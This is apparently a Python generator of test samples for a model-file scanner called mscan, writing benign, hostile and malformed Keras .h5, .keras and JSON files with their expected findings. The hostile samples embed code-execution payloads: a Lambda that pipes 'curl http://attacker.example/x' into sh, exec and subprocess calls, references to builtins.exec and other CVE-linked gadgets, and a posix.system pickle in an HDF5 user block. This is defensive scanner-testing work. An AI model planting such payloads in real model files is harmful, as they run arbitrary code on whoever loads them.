#!/usr/bin/env python3
"""Write mscan's Keras samples (samples/keras/) and their manifest entries.

Keras models as tf.keras and Keras 3 write them, without Keras: HDF5 files through h5py (the
root group's model_config/training_config attributes hold the JSON config, as
keras/saving/legacy/hdf5_format.py writes them), Keras 3 .keras zips (config.json,
metadata.json, model.weights.h5) and bare JSON configs. Lambda functions are base64 of
marshal.dumps(code) exactly as keras.utils.func_dump makes them; the code objects come from
compile() and are never run. Needs Debian's python3-h5py:

    /usr/bin/python3 samples/make_keras_samples.py

Then refresh the goldens: MSCAN_UPDATE_GOLDEN=1 build/tests/mscan_tests "golden*"
"""

from __future__ import annotations

import codecs
import copy
import io
import json
import marshal
import shutil
import types
import zipfile
from pathlib import Path

import h5py
import numpy as np

from make_samples import MEDIUM_PLUS, update_manifest

OUT = Path(__file__).resolve().parent / "keras"
PREFIX = "samples/keras/"
DATE = (2024, 1, 1, 0, 0, 0)
ENTRIES = []

# posix.system('echo mscan-sample'), protocol 2, as raw opcodes (never unpickled)
_CMD = b"echo mscan-sample"
PICKLE_PAYLOAD = b"\x80\x02cposix\nsystem\n\x8c" + bytes([len(_CMD)]) + _CMD + b"\x85R."


def lambda_code(source: str) -> str:
    """base64(marshal(code of the lambda in `source`)), like keras func_dump. Not run."""
    module = compile(source, "<keras-sample>", "eval")
    code = next(c for c in module.co_consts if isinstance(c, types.CodeType))
    return codecs.encode(marshal.dumps(code), "base64").decode("ascii")


def add(path: Path, kind: str, description: str, expect, forbid=()):
    ENTRIES.append({
        "path": path.relative_to(OUT.parent.parent).as_posix(),
        "kind": kind,
        "group": "keras",
        "description": description,
        "expect": list(expect),
        "forbid": list(forbid),
    })


# ---------------------------------------------------------------------------------------------
# Configs

def glorot():
    return {"class_name": "GlorotUniform", "config": {"seed": None}}


def dense2(name, units, activation="relu", **extra):
    cfg = {"name": name, "trainable": True, "dtype": "float32", "units": units,
           "activation": activation, "use_bias": True, "kernel_initializer": glorot(),
           "bias_initializer": {"class_name": "Zeros", "config": {}},
           "kernel_regularizer": None, "bias_regularizer": None,
           "activity_regularizer": None, "kernel_constraint": None, "bias_constraint": None}
    cfg.update(extra)
    return {"class_name": "Dense", "config": cfg}


def sequential2(layers, name="sequential"):
    """tf.keras 2 form: class names without modules."""
    return {"class_name": "Sequential",
            "config": {"name": name, "layers": [
                {"class_name": "InputLayer",
                 "config": {"batch_input_shape": [None, 4], "dtype": "float32",
                            "sparse": False, "ragged": False, "name": "input_1"}}] + layers}}


def lambda2(name, source):
    """tf.keras 2 Lambda layer: function = [code, defaults, closure]."""
    return {"class_name": "Lambda",
            "config": {"name": name, "trainable": True, "dtype": "float32",
                       "function": [lambda_code(source), None, None],
                       "function_type": "lambda", "module": "__main__",
                       "output_shape": None, "output_shape_type": "raw",
                       "output_shape_module": None, "arguments": {}}}


def training2(loss="mse"):
    return {"loss": loss, "metrics": ["mae"], "weighted_metrics": None,
            "loss_weights": None,
            "optimizer_config": {"class_name": "Adam",
                                 "config": {"name": "Adam", "learning_rate": 0.001,
                                            "beta_1": 0.9, "beta_2": 0.999,
                                            "epsilon": 1e-07, "amsgrad": False}}}


def k3(module, class_name, config, registered=None, **extra):
    """Keras 3 form: every object names its module."""
    obj = {"module": module, "class_name": class_name, "config": config,
           "registered_name": registered}
    obj.update(extra)
    return obj


def k3_dense(name, units, kernel_initializer=None):
    return k3("keras.layers", "Dense", {
        "name": name, "trainable": True,
        "dtype": k3("keras", "DTypePolicy", {"name": "float32"}),
        "units": units, "activation": "relu", "use_bias": True,
        "kernel_initializer": kernel_initializer or k3("keras.initializers", "GlorotUniform",
                                                       {"seed": None}),
        "bias_initializer": k3("keras.initializers", "Zeros", {}),
        "kernel_regularizer": None, "bias_regularizer": None, "kernel_constraint": None,
        "bias_constraint": None}, build_config={"input_shape": [None, 4]})


def k3_sequential(layers, name="sequential"):
    return k3("keras", "Sequential", {
        "name": name, "trainable": True,
        "layers": [k3("keras.layers", "InputLayer",
                      {"batch_shape": [None, 4], "dtype": "float32", "name": "input_layer"})]
        + layers}, build_config={"input_shape": [None, 4]},
        compile_config={"optimizer": k3("keras.optimizers", "Adam",
                                        {"name": "adam", "learning_rate": 0.001}),
                        "loss": "mean_squared_error", "metrics": None})


def k3_lambda(name, source):
    """Keras 3 Lambda.get_config: {"class_name": "__lambda__", "config": {"code": ...}}."""
    return k3("keras.layers", "Lambda", {
        "name": name, "trainable": True,
        "function": {"class_name": "__lambda__",
                     "config": {"code": lambda_code(source), "defaults": None,
                                "closure": None}},
        "arguments": {}})


def k3_function_ref(module, name):
    """serialize_keras_object(fn) for a plain function (CVE-2025-1550 shape)."""
    return {"module": module, "class_name": "function", "config": name,
            "registered_name": "function"}


# ---------------------------------------------------------------------------------------------
# Writers

def write_h5(path: Path, model_config, training_config=None, libver=None, userblock=0,
             extra_attrs=0, config_as_str=False, fixed=False):
    path.parent.mkdir(parents=True, exist_ok=True)
    kwargs = {}
    if libver:
        kwargs["libver"] = libver
    if userblock:
        kwargs["userblock_size"] = userblock
    with h5py.File(path, "w", **kwargs) as f:
        text = model_config if isinstance(model_config, str) else json.dumps(model_config)
        # tf.keras writes json.dumps(...).encode("utf8"): h5py 3 stores that as a variable-
        # length string (global heap), h5py 2 as a fixed-length one (np.bytes_ here)
        if fixed:
            f.attrs["model_config"] = np.bytes_(text.encode("utf8"))
        else:
            f.attrs["model_config"] = text if config_as_str else text.encode("utf8")
        if training_config is not None:
            f.attrs["training_config"] = json.dumps(training_config).encode("utf8")
        f.attrs["keras_version"] = b"2.13.1"
        f.attrs["backend"] = b"tensorflow"
        for i in range(extra_attrs):
            f.attrs[f"note_{i:02d}"] = np.int64(i)
        g = f.create_group("model_weights")
        g.attrs["layer_names"] = np.array([b"dense", b"dense_1"])
        d = g.create_group("dense").create_group("dense")
        d.create_dataset("kernel:0", data=np.arange(16, dtype=np.float32).reshape(4, 4),
                         track_times=False)
    return path


def write_keras_zip(path: Path, config, weights=True, metadata=None, raw_config=None):
    path.parent.mkdir(parents=True, exist_ok=True)
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        def put(name, data):
            info = zipfile.ZipInfo(name, DATE)
            info.compress_type = zipfile.ZIP_DEFLATED
            z.writestr(info, data)
        put("metadata.json", json.dumps(metadata or {"keras_version": "3.6.0",
                                                     "date_saved": "2024-01-01@00:00:00"}))
        put("config.json", raw_config if raw_config is not None else json.dumps(config))
        if weights:
            wbuf = io.BytesIO()
            with h5py.File(wbuf, "w") as f:
                v = f.create_group("layers").create_group("dense").create_group("vars")
                v.create_dataset("0", data=np.ones((4, 8), dtype=np.float32), track_times=False)
                v.create_dataset("1", data=np.zeros(8, dtype=np.float32), track_times=False)
            put("model.weights.h5", wbuf.getvalue())
    path.write_bytes(buf.getvalue())
    return path


def write_json(path: Path, text: str):
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text, encoding="utf-8")
    return path


# ---------------------------------------------------------------------------------------------

HOSTILE_SRC = "lambda x: __import__('os').system('curl http://attacker.example/x | sh') or x"


def main():
    if OUT.exists():
        shutil.rmtree(OUT)
    b, h, a = OUT / "benign", OUT / "hostile", OUT / "anomaly"

    # --- benign
    plain = sequential2([dense2("dense", 8), dense2("dense_1", 1, "linear")])
    add(write_h5(b / "sequential_tf2.h5", plain, training2(), fixed=True), "benign",
        "tf.keras 2 Sequential .h5 as h5py 2 wrote it (superblock 0, fixed-length string "
        "model_config, vlen training_config)", [], [MEDIUM_PLUS])
    functional = {"class_name": "Functional", "config": {
        "name": "model", "layers": [
            {"class_name": "InputLayer", "name": "in",
             "config": {"batch_input_shape": [None, 5, 4], "dtype": "float32", "name": "in"},
             "inbound_nodes": []},
            {"class_name": "Bidirectional", "name": "bi",
             "config": {"name": "bi", "merge_mode": "concat",
                        "layer": {"class_name": "LSTM",
                                  "config": {"name": "lstm", "units": 4,
                                             "return_sequences": True}}},
             "inbound_nodes": [[["in", 0, 0, {}]]]},
            {"class_name": "TimeDistributed", "name": "td",
             "config": {"name": "td", "layer": dense2("dense", 2)},
             "inbound_nodes": [[["bi", 0, 0, {}]]]},
            {"class_name": "Sequential", "name": "head",
             "config": sequential2([dense2("d", 1)], "head")["config"],
             "inbound_nodes": [[["td", 0, 0, {}]]]}],
        "input_layers": [["in", 0, 0]], "output_layers": [["head", 0, 0]]}}
    add(write_h5(b / "functional_latest.h5", functional, libver="latest", config_as_str=True),
        "benign", "Functional model with Bidirectional, TimeDistributed and a nested Sequential, "
        "written with libver='latest' (superblock 3, v2 object headers, vlen string config)",
        [], [MEDIUM_PLUS])
    add(write_h5(b / "user_block.h5", plain, userblock=512), "benign",
        "tf.keras .h5 with a 512-byte user block of zeros before the superblock", [],
        [MEDIUM_PLUS])
    add(write_h5(b / "dense_attributes.h5", plain, training2(), libver="latest",
                 extra_attrs=20), "benign",
        "tf.keras .h5 whose root attributes are in dense storage (fractal heap + v2 B-tree)",
        [], [MEDIUM_PLUS])
    add(write_keras_zip(b / "sequential.keras",
                        k3_sequential([k3_dense("dense", 8), k3_dense("dense_1", 1)])),
        "benign", "Keras 3 .keras archive: config.json, metadata.json, model.weights.h5", [],
        [MEDIUM_PLUS])
    add(write_json(b / "model.json", json.dumps(plain)), "benign",
        "model.to_json() output of a tf.keras Sequential", [], [MEDIUM_PLUS])
    tfop = sequential2([{"class_name": "TFOpLambda",
                         "config": {"name": "tf.math.add", "trainable": True,
                                    "dtype": "float32", "function": "math.add"}}])
    add(write_h5(b / "tfoplambda.h5", tfop), "benign",
        "tf.keras model with a TFOpLambda layer calling tf.math.add", ["keras-tf-op-layer"],
        [MEDIUM_PLUS])

    # --- hostile
    add(write_h5(h / "lambda_os_system.h5",
                 sequential2([lambda2("lambda", HOSTILE_SRC), dense2("dense", 1)]),
                 training2(), fixed=True),
        "hostile", "tf.keras .h5 with a Lambda layer whose bytecode runs "
        "__import__('os').system('curl … | sh')",
        ["keras-lambda-layer", "process-execution", "code-execution"])
    nested = k3_sequential([k3("keras.layers", "TimeDistributed", {
        "name": "td", "layer": k3_lambda("inner_lambda",
                                         "lambda x: exec(\"import socket\") or x")})])
    outer = k3("keras", "Functional", {"name": "outer", "layers": [
        k3("keras", "Sequential", nested["config"], name="inner_model")]})
    add(write_keras_zip(h / "nested_lambda.keras", outer), "hostile",
        "Keras 3 .keras: a Lambda calling exec() inside TimeDistributed inside a nested "
        "Sequential inside a Functional model", ["keras-lambda-layer", "code-execution"])
    add(write_keras_zip(h / "initializer_exec.keras", k3_sequential([
        k3_dense("dense", 4, kernel_initializer=k3_function_ref("builtins", "exec"))])),
        "hostile", "Keras 3 .keras whose Dense kernel_initializer is a reference to "
        "builtins.exec (CVE-2025-1550 shape)", ["code-execution"])
    add(write_keras_zip(h / "get_file.keras", k3_sequential([
        k3_dense("dense", 4, kernel_initializer=k3_function_ref("keras.utils", "get_file"))])),
        "hostile", "Keras 3 .keras referencing keras.utils.get_file (CVE-2025-8747 gadget)",
        ["ml-framework-gadget"])
    add(write_keras_zip(h / "unsafe_deserialization.keras", k3_sequential([
        k3_dense("dense", 4, kernel_initializer=k3_function_ref(
            "keras.config", "enable_unsafe_deserialization"))])),
        "hostile", "Keras 3 .keras that calls keras.config.enable_unsafe_deserialization while "
        "loading (CVE-2025-9906)", ["ml-framework-gadget"])
    padded = '{' + ' ' * (200 * 1024) + json.dumps(k3_sequential([
        k3_dense("dense", 4, kernel_initializer=k3_function_ref("builtins", "exec"))]))[1:]
    add(write_keras_zip(h / "padded_config.keras", json.loads(padded), raw_config=padded),
        "hostile", ".keras whose config.json starts with 200 KiB of blanks, so its keys lie "
        "beyond any fixed-size sniff (deflated member); the builtins.exec reference must be "
        "found", ["code-execution"])
    add(write_json(h / "module_outside.json", json.dumps(k3_sequential([
        k3("evil_pkg.layers", "Backdoor", {"name": "bd"}, registered="evil>Backdoor")]))),
        "hostile", "Keras 3 config naming a class from a module outside Keras",
        ["unknown-global"])
    add(write_h5(h / "custom_object.h5", sequential2([
        {"class_name": "MyAttention", "config": {"name": "attn", "heads": 2}}])),
        "hostile", "tf.keras .h5 with a custom layer class Keras does not define",
        ["keras-custom-object"])
    shape_lambda = sequential2([dense2("dense", 1)])
    lam = lambda2("shape", "lambda x: x")
    lam["config"]["output_shape"] = [lambda_code(
        "lambda s: __import__('subprocess').check_output(['id']) and s"), None, None]
    lam["config"]["output_shape_type"] = "lambda"
    shape_lambda["config"]["layers"].append(lam)
    add(write_h5(h / "output_shape_lambda_dense.h5", shape_lambda, training2(),
                 libver="latest", extra_attrs=20),
        "hostile", "Lambda whose output_shape function runs subprocess, in an .h5 with dense "
        "attribute storage", ["keras-lambda-layer", "process-execution"])
    ub = write_h5(h / "user_block_pickle.h5", plain, userblock=512)
    data = bytearray(ub.read_bytes())
    data[:len(PICKLE_PAYLOAD)] = PICKLE_PAYLOAD
    ub.write_bytes(bytes(data))
    add(ub, "hostile", "HDF5 whose 512-byte user block holds a pickle calling posix.system "
        "(pickle.load reads it from offset 0)", ["process-execution"])

    # --- anomalies
    good = (b / "sequential_tf2.h5").read_bytes()
    t = a / "truncated.h5"
    t.parent.mkdir(parents=True, exist_ok=True)
    t.write_bytes(good[:1200])
    add(t, "anomaly", "tf.keras .h5 cut after 1200 bytes", ["hdf5-unverified"])
    hostile = (h / "lambda_os_system.h5").read_bytes()
    t = a / "cut_in_weights.h5"
    t.write_bytes(hostile[:len(hostile) - 1000])
    add(t, "anomaly", "the Lambda .h5 with its last 1000 bytes (weights) cut: the config is "
        "whole, but the file is shorter than its superblock's end-of-file address",
        ["hdf5-unverified", "keras-lambda-layer", "process-execution"])
    add(write_h5(a / "bad_json.h5", "{\"class_name\": \"Sequential\", \"config\": {"),
        "anomaly", "model_config attribute that is not valid JSON", ["keras-malformed-config"])
    add(write_json(a / "deep.json", "{\"class_name\": \"Sequential\", \"config\": "
                   + "[" * 2000 + "]" * 2000 + "}"),
        "anomaly", "Keras JSON config nested 2000 levels deep", ["keras-malformed-config"])
    bad = sequential2([lambda2("lambda", "lambda x: x")])
    bad["config"]["layers"][1]["config"]["function"][0] = "!!not base64!!"
    add(write_h5(a / "lambda_bad_base64.h5", bad), "anomaly",
        "Lambda layer whose code is not base64", ["keras-lambda-layer"])

    update_manifest(ENTRIES, [PREFIX])
    print(f"wrote {len(ENTRIES)} Keras samples under {OUT}")


if __name__ == "__main__":
    main()
